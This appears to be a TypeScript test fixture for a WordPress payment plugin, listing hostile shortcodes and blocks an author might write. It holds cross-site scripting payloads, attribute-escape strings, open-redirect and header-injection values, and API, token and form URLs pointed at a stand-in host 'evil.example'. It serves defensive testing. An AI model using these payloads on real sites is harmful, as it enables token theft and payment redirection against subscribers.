@@ -1,0 +1,91 @@
+/** What somebody who may write articles, but no scripts, might write to get at a subscriber. */
+const evil = 'https://evil.example';
+const pay = 'invoice-number="7435367" product-code="CO27409" company-code="5646903690"';
+
+/** In a shortcode that works without them. */
+const attributes: readonly string[] = [
+  // Servers, tokens and ways back of their own.
+  `api-url="${evil}/capi"`,
+  `API-URL="${evil}/capi"`,
+  `api_url="${evil}/capi"`,
+  `login-url="${evil}/login"`,
+  `token="stolen"`,
+  `token-url="${evil}/token"`,
+  `token-url="/wp-json/wp/v2/users/me"`,
+  `return-url="${evil}/"`,
+  `return-url="//evil.example/"`,
+  `return-url="/\\evil.example/"`,
+  `return-url="/%5Cevil.example/%0d%0aSet-Cookie:a=b"`,
+  `return-url="javascript:ran()"`,
+  `return-url="/@evil.example" error-url="${evil}" return-origins="${evil}"`,
+  `operation-origins="${evil}" src="${evil}/payment" environment="test" country="se"`,
+  `client-id="evil" target="_top" result-param="evil" debug="1"`,
+  // Event handlers, styles, and the way out of an attribute.
+  `onclick="ran()" onfocus="ran()" autofocus="1" tabindex="0"`,
+  `onconnect-load="ran()" onpointerenter="ran()"`,
+  `style="background:url(${evil}/style)" class="evil" id="evil" slot="evil" is="evil"`,
+  `lang='en" onfocus="ran()" autofocus="'`,
+  `lang='"><script>ran()</script>'`,
+  `lang='"><img src=x onerror=ran()>'`,
+  `lang="&quot;&gt;&lt;script&gt;ran()&lt;/script&gt;"`,
+  `lang="en&#34; onfocus=&#34;ran()"`,
+  `methods='nexi" onfocus="ran()'`,
+  `methods="nexi\u00a0onfocus=ran()"`,
+  `amount="1'; ran(); '"`,
+  `amount="1<svg onload=ran()>"`,
+  `currency="NOK\`onload=ran()"`,
+  `remember="1 onfocus=ran()"`,
+  `"><script>ran()</script>`,
+  `onfocus=ran() autofocus`,
+  `><img/src=x/onerror=ran()>`,
+  `lang="[connect_outcome lang=no]" __proto__="evil" constructor="evil"`,
+];
+
+/** In the middle of a shortcode. */
+const contents: readonly string[] = [
+  `<script>ran()</script>`,
+  `<img src=x onerror=ran()>`,
+  `<svg><script>ran()</script></svg>`,
+  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
+  `<a href="javascript:ran()" id="evil">Pay</a>`,
+  `</connect-pay-invoice></connect-config><connect-config api-url="${evil}"><connect-invoices product-code="CO27409">`,
+  `<connect-config login-url="${evil}"><connect-invoices product-code="CO27409"></connect-invoices></connect-config>`,
+  `<script type="module" src="${evil}/script.js"></script>`,
+  `<form action="${evil}"><button>Pay</button></form>`,
+];
+
+const values = {
+  invoiceNumber: '7435367',
+  productCode: 'CO27409',
+  companyCode: '5646903690',
+};
+/** In the comment that a block is saved as. */
+const blocks: readonly object[] = [
+  { apiUrl: `${evil}/capi`, 'api-url': evil, tokenUrl: `${evil}/token`, token: 'stolen' },
+  { returnUrl: `${evil}/`, loginUrl: evil },
+  { returnUrl: 'javascript:ran()', onclick: 'ran()', className: '"onfocus="ran()' },
+  { lang: '"><script>ran()</script>' },
+  { lang: { toString: 'ran()' }, methods: ['nexi" onfocus="ran()'], remember: '" onfocus="ran()' },
+  { lang: 'en\u0022 onfocus=\u0022ran()', anchor: '"><img src=x onerror=ran()>' },
+];
+
+const comment = (given: object) =>
+  JSON.stringify(given)
+    .replaceAll('--', '\\u002d\\u002d')
+    .replaceAll('<', '\\u003c')
+    .replaceAll('>', '\\u003e');
+
+export const hostileArticles: readonly string[] = [
+  ...attributes.map((given) => `[connect_pay_invoice ${pay} ${given}]`),
+  ...contents.map((given) => `[connect_pay_invoice ${pay}]${given}[/connect_pay_invoice]`),
+  ...blocks.map(
+    (given) => `<!-- wp:connect-elements/pay-invoice ${comment({ ...values, ...given })} /-->`,
+  ),
+  `[connect_config api-url="${evil}"][connect_method_status api-url="${evil}" guid="1"][connect_vipps_payment src="${evil}"]`,
+  // What is no shortcode: the tags themselves, and the place that the theme's lines fill.
+  `<connect-config api-url="${evil}"><connect-invoices product-code="CO27409"></connect-invoices></connect-config>`,
+  `<div data-connect="invoices" data-product-code="CO27409" data-api-url="${evil}" data-token-url="${evil}" data-onclick="ran()">Invoices</div>`,
+  `<div data-connect="config" data-api-url="${evil}">Invoices</div>`,
+  `<div data-connect="__proto__" data-product-code="CO27409">Invoices</div>`,
+  `<a data-connect="pay-invoice" data-return-url="${evil}" data-lang='"><script>ran()</script>' href="/">Pay</a>`,
+];
